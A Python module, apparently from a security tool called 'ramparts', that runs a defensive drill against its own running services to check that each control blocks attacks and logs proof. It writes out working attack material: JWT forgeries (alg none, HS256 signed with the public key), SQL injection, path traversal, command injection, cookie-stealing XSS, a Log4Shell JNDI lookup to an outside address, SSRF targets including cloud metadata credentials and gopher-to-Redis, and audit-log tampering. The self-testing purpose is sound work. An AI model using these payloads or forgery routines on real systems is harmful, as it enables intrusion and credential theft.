"""``ramparts drill``: attack a running system and prove every control held.

The drill plays the attackers the design names: an outside client with
forged tokens or a flood, a customer turning webhooks into SSRF, a
compromised ``statements`` service (it holds that service's SVID, as an
attacker who took over its process would), a client that skips the gateway,
and someone editing the audit log. Each scenario reports whether it was
blocked and the security events, with correlation IDs, that prove it.

It needs the state directory of ``ramparts up`` (for the topology, a
development token and the stolen identity) and the running system.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import hashlib
import hmac
import json
import sqlite3
import ssl
import subprocess
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path
from typing import Any

import httpx
from joserfc import jwt as jose_jwt

from ramparts.alerts import AlertEngine, default_rules
from ramparts.config import Topology, load_topology
from ramparts.events import SecurityEvent
from ramparts.identity import IdentitySource, service_client
from ramparts.platform import devissuer
from ramparts.platform.up import topology_of

EVENT_WAIT = 5.0  # how long events may take to reach the JSON-lines files


@dataclass
class Scenario:
    name: str
    blocked: bool = False
    detail: str = ""
    events: list[dict[str, Any]] = field(default_factory=list)
    correlation_ids: list[str] = field(default_factory=list)
    alerts: list[str] = field(default_factory=list)
    started: float = 0.0
    ended: float = 0.0

    def to_dict(self) -> dict[str, Any]:
        return {
            "name": self.name,
            "blocked": self.blocked,
            "detail": self.detail,
            "events": self.events,
            "correlation_ids": self.correlation_ids,
            "alerts": self.alerts,
        }


class Drill:
    def __init__(self, state: Path) -> None:
        self.state = state
        topology_file = topology_of(state)
        self.topology: Topology = load_topology(topology_file)
        jwks = devissuer.jwks_path(self.topology, topology_file)
        if jwks is None:
            raise ValueError("the drill needs the development issuer of 'ramparts up'")
        self.jwks = jwks
        gw = self.topology.gateway
        self.gateway_url = ("http" if gw.plain_http else "https") + f"://{gw.listen}"
        self.started = time.time()

    # -- helpers ---------------------------------------------------------------

    def token(self, subject: str, scopes: list[str], **kw: Any) -> str:
        return devissuer.mint(self.topology, self.state, subject=subject, scopes=scopes, **kw)

    def events(self, *, types: set[str], since: float, correlation_ids: set[str] | None = None,
               service: str | None = None) -> list[dict[str, Any]]:  # fmt: skip
        """Security events of the run so far, from every component's JSON-lines file."""
        out = []
        for path in self._event_files():
            for line in path.read_text(encoding="utf-8", errors="replace").splitlines():
                try:
                    e = json.loads(line)
                except ValueError:
                    continue
                when = _epoch(e.get("time", ""))
                if e.get("type") not in types or when < since:
                    continue
                if correlation_ids is not None and e.get("correlation_id") not in correlation_ids:
                    continue
                if service is not None and e.get("service") != service:
                    continue
                out.append(e)
        return out

    async def wait_events(self, want: int, **kw: Any) -> list[dict[str, Any]]:
        deadline = time.monotonic() + EVENT_WAIT
        while True:
            found = self.events(**kw)
            if len(found) >= want or time.monotonic() > deadline:
                return found
            await asyncio.sleep(0.1)

    async def gateway(
        self, method: str, path: str, *, token: str | None = None, **kw: Any
    ) -> httpx.Response:
        headers = dict(kw.pop("headers", {}))
        if token is not None:
            headers["Authorization"] = f"Bearer {token}"
        async with httpx.AsyncClient(base_url=self.gateway_url, timeout=10.0) as client:
            return await client.request(method, path, headers=headers, **kw)

    def identity(self, name: str) -> IdentitySource:
        return IdentitySource.from_dir(self.state / "identity" / name)

    # -- scenarios -------------------------------------------------------------

    async def forged_tokens(self) -> Scenario:
        """Forged and abused JWTs are all refused at the gateway."""
        s = Scenario("forged and abused JWTs")
        good = self.token("drill-user", ["accounts:write"])
        header, payload, sig = good.split(".")
        claims = json.loads(_b64d(payload))
        victim = _b64e(json.dumps({**claims, "sub": "victim"}).encode())
        forgeries = {
            "alg none": _jws({"alg": "none", "typ": "JWT"}, claims, b""),
            "HS256 with the public JWK as secret": _hs256_with_public_key(self.jwks, claims),
            "expired": self.token("drill-user", ["accounts:write"], ttl=60, now=time.time() - 3600),
            "wrong audience": _resign(self.state, {**claims, "aud": "someone-else"}),
            "unknown kid": _jws({"alg": "ES256", "kid": "drill-unknown"}, claims, _b64d(sig)),
            "tampered claims": f"{header}.{victim}.{sig}",
            "no token": None,
        }
        since = time.time()
        ids, refused = [], 0
        for _what, token in forgeries.items():
            r = await self.gateway("GET", "/v1/customers/victim", token=token)
            ids.append(r.headers.get("x-request-id", ""))
            refused += r.status_code == 401
        s.correlation_ids = ids
        s.events = await self.wait_events(len(forgeries), types={"jwt.rejected"}, since=since,
                                          correlation_ids=set(ids))  # fmt: skip
        s.blocked = refused == len(forgeries) and len(s.events) >= len(forgeries)
        s.detail = f"{refused}/{len(forgeries)} refused with 401: {', '.join(forgeries)}"
        return s

    async def waf_payloads(self) -> Scenario:
        """Classic payloads in the URL and in bodies are blocked by the WAF at the gateway."""
        s = Scenario("WAF payloads")
        token = self.token("drill-waf", ["accounts:write", "payments:write"])
        attempts = [
            ("GET", "/v1/customers/x?id=1%27%20OR%20%271%27%3D%271", None),
            ("GET", "/v1/customers/x?file=..%2F..%2F..%2Fetc%2Fpasswd", None),
            ("GET", "/v1/customers/x?cmd=%3Bcat%20%2Fetc%2Fpasswd", None),
            ("POST", "/v1/customers", {"name": "<script>alert(document.cookie)</script>"}),
            ("POST", "/v1/customers", {"name": "x' UNION SELECT password FROM users--"}),
            ("POST", "/v1/transfers", {"narration": "${jndi:ldap://203.0.113.5/a}"}),
        ]
        since = time.time()
        refused, ids = 0, []
        for method, path, body in attempts:
            r = await self.gateway(method, path, token=token, json=body)
            ids.append(r.headers.get("x-request-id", ""))
            refused += r.status_code == 403
        s.correlation_ids = ids
        s.events = await self.wait_events(len(attempts), types={"waf.blocked"}, since=since,
                                          correlation_ids=set(ids))  # fmt: skip
        s.blocked = refused == len(attempts) and len(s.events) >= len(attempts)
        s.detail = f"{refused}/{len(attempts)} payloads refused with 403"
        return s

    async def rate_limit_flood(self) -> Scenario:
        """A flood on a rate-limited route is cut off with 429s."""
        s = Scenario("rate-limit flood")
        token = self.token("drill-flooder", ["payments:write"])
        since = time.time()
        statuses, ids = [], []
        async with httpx.AsyncClient(base_url=self.gateway_url, timeout=10.0) as client:
            for _ in range(80):
                r = await client.post(
                    "/v1/transfers", json={}, headers={"Authorization": f"Bearer {token}"}
                )
                statuses.append(r.status_code)
                if r.status_code == 429:
                    ids.append(r.headers.get("x-request-id", ""))
        s.correlation_ids = ids
        s.events = await self.wait_events(
            1, types={"ratelimit.exceeded"}, since=since, correlation_ids=set(ids)
        )
        s.blocked = bool(ids) and bool(s.events)
        s.detail = f"{statuses.count(429)} of {len(statuses)} requests got 429"
        return s

    async def ssrf_through_webhooks(self) -> Scenario:
        """A customer's webhook URL pointing inside is refused, in every spelling."""
        s = Scenario("SSRF through notifications")
        token = self.token("drill-ssrf", ["notifications:write"])
        ledger = self.topology.services["ledger"].listen
        targets = [
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
            "http://0251.0376.0251.0376/",
            f"http://{ledger}/v1/postings",
            f"http://2130706433:{ledger.port}/",
            "http://localhost:5432/",
            "gopher://127.0.0.1:6379/_FLUSHALL",
        ]
        since = time.time()
        refused, ids = 0, []
        for url in targets:
            r = await self.gateway("POST", "/v1/webhooks", token=token, json={"url": url})
            ids.append(r.headers.get("x-request-id", ""))
            # Two layers: the WAF at the gateway (403) or, behind it, the egress guard (422).
            refused += r.status_code in (403, 422)
        s.correlation_ids = ids
        s.events = await self.wait_events(
            len(targets), types={"egress.blocked", "waf.blocked"}, since=since,
            correlation_ids=set(ids),
        )  # fmt: skip
        s.blocked = refused == len(targets) and len(s.events) >= len(targets)
        by_layer = {
            t: sum(e["type"] == t for e in s.events) for t in ("waf.blocked", "egress.blocked")
        }
        s.detail = (
            f"{refused}/{len(targets)} webhook URLs refused "
            f"(WAF {by_layer['waf.blocked']}, egress guard {by_layer['egress.blocked']})"
        )
        return s

    async def compromised_statements(self) -> Scenario:
        """Statements' stolen identity reaches only what statements may: ledger reads."""
        s = Scenario("compromised statements service")
        me = self.identity("statements")
        attempts = [
            ("payments", "POST", "/v1/transfers"),
            ("accounts", "GET", "/v1/customers/victim"),
            ("notifications", "POST", "/v1/events"),
            ("ledger", "POST", "/v1/postings"),  # an edge it has, a path it has not
        ]
        since = time.time()
        refused = 0
        for callee, method, path in attempts:
            svc = self.topology.services[callee]
            async with service_client(me, svc.spiffe_id, f"https://{svc.listen}") as client:
                r = await client.request(method, path, json={})
            refused += r.status_code == 403
        s.events = await self.wait_events(len(attempts), types={"authz.denied"}, since=since)
        s.events = [e for e in s.events if (e.get("detail") or {}).get("caller") == "statements"]
        s.correlation_ids = [e.get("correlation_id") for e in s.events if e.get("correlation_id")]
        s.blocked = refused == len(attempts) and len(s.events) >= len(attempts)
        s.detail = f"{refused}/{len(attempts)} calls refused with 403"
        return s

    async def bypass_gateway(self) -> Scenario:
        """Talking to a service directly, without an SVID, fails at the handshake."""
        s = Scenario("direct access bypassing the gateway")
        svc = self.topology.services["accounts"]
        since = time.time()
        outcomes = []
        # Plain HTTP, then TLS without a client certificate.
        async with httpx.AsyncClient(timeout=5.0) as client:
            with contextlib.suppress(httpx.HTTPError):
                r = await client.get(f"http://{svc.listen}/v1/customers/victim")
                outcomes.append(r.status_code)
        insecure = ssl.create_default_context()
        insecure.check_hostname = False
        insecure.verify_mode = ssl.CERT_NONE
        async with httpx.AsyncClient(timeout=5.0, verify=insecure) as client:
            with contextlib.suppress(httpx.HTTPError):
                r = await client.get(f"https://{svc.listen}/v1/customers/victim")
                outcomes.append(r.status_code)
        s.events = await self.wait_events(
            2, types={"mtls.rejected"}, since=since, service="accounts"
        )
        s.blocked = outcomes == [] and len(s.events) >= 2
        s.detail = (
            "both connections refused at the handshake" if s.blocked else f"answers: {outcomes}"
        )
        return s

    async def audit_tampering(self) -> Scenario:
        """Editing one audit entry is caught by ``ramparts audit verify``."""
        s = Scenario("audit log tampering")
        db = self.state / "audit" / "audit.db"
        with tempfile.TemporaryDirectory() as tmp:
            copy = Path(tmp) / "audit.db"
            with sqlite3.connect(db) as src, sqlite3.connect(copy) as dst:
                src.backup(dst)
            with contextlib.closing(sqlite3.connect(copy)) as conn, conn:
                # Turn the first recorded denial into an allow: the edit an insider
                # covering their tracks would make.
                changed = 0
                for idx, data in conn.execute("SELECT idx, data FROM entries ORDER BY idx"):
                    if b'"outcome":"deny"' in bytes(data):
                        edited = bytes(data).replace(b'"outcome":"deny"', b'"outcome":"allow"')
                        conn.execute("UPDATE entries SET data = ? WHERE idx = ?", (edited, idx))
                        changed = 1
                        break
            vkey = str(self.state / "audit" / "log.vkey")
            clean = _verify(db, vkey)
            tampered = _verify(copy, vkey)
        s.blocked = changed == 1 and clean.returncode == 0 and tampered.returncode != 0
        report = (tampered.stdout + tampered.stderr).strip().splitlines()
        s.detail = report[0] if report else f"verify exited {tampered.returncode}"
        s.events = [{"type": "audit.verify", "outcome": "deny", "reason": s.detail}]
        return s

    async def run(self) -> list[Scenario]:
        scenarios: list[Callable[[], Awaitable[Scenario]]] = [
            self.forged_tokens,
            self.ssrf_through_webhooks,
            self.compromised_statements,
            self.bypass_gateway,
            self.waf_payloads,
            self.rate_limit_flood,
            self.audit_tampering,
        ]
        out = []
        for scenario in scenarios:
            started = time.time()
            try:
                result = await scenario()
            except Exception as exc:  # a broken scenario is a failed control, reported as such
                result = Scenario(scenario.__name__, False, f"scenario failed: {exc!r}")
            result.started, result.ended = started, time.time()
            out.append(result)
        self.attach_alerts(out)
        return out

    def _event_files(self) -> list[Path]:
        return [p for p in sorted((self.state / "events").glob("*.jsonl")) if p.is_file()]

    def attach_alerts(self, scenarios: list[Scenario]) -> None:
        """Run the drill's events through the default alert rules (the engine a live
        deployment feeds) and give each scenario the alerts its own events raised."""
        events = []
        for path in self._event_files():
            for line in path.read_text(encoding="utf-8", errors="replace").splitlines():
                with contextlib.suppress(ValueError, TypeError, AttributeError):
                    event = SecurityEvent.from_dict(json.loads(line))
                    if event.time >= self.started:
                        events.append(event)
        events.sort(key=lambda e: e.time)
        engine = AlertEngine(default_rules(), topology=self.topology, silence_after=None)
        alerts = engine.replay(events) + engine.flush()
        for s in scenarios:
            s.alerts = sorted({a.rule for a in alerts if s.started <= a.first_at <= s.ended})


# -- token crafting ------------------------------------------------------------


def _b64e(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _b64d(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _jws(header: dict[str, Any], claims: dict[str, Any], signature: bytes) -> str:
    h = _b64e(json.dumps(header).encode())
    p = _b64e(json.dumps(claims).encode())
    return f"{h}.{p}.{_b64e(signature)}"


def _hs256_with_public_key(jwks_file: Path, claims: dict[str, Any]) -> str:
    public = jwks_file.read_bytes()
    h = _b64e(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    p = _b64e(json.dumps(claims).encode())
    sig = hmac.new(public, f"{h}.{p}".encode(), hashlib.sha256).digest()
    return f"{h}.{p}.{_b64e(sig)}"


def _resign(state: Path, claims: dict[str, Any]) -> str:
    key = devissuer._load(state / "keys" / devissuer.KEY_FILE)
    return jose_jwt.encode({"alg": "ES256", "kid": key.kid}, claims, key)


def _epoch(text: str) -> float:
    try:
        return datetime.fromisoformat(text).timestamp()
    except ValueError:
        return 0.0


def _verify(db: Path, vkey: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(  # noqa: S603 - our own interpreter and module
        [sys.executable, "-m", "ramparts", "audit", "verify", "--db", str(db), "--log-key", vkey],
        capture_output=True, text=True, check=False, timeout=120,
    )  # fmt: skip


def run_drill(state: Path) -> list[Scenario]:
    return asyncio.run(Drill(state).run())
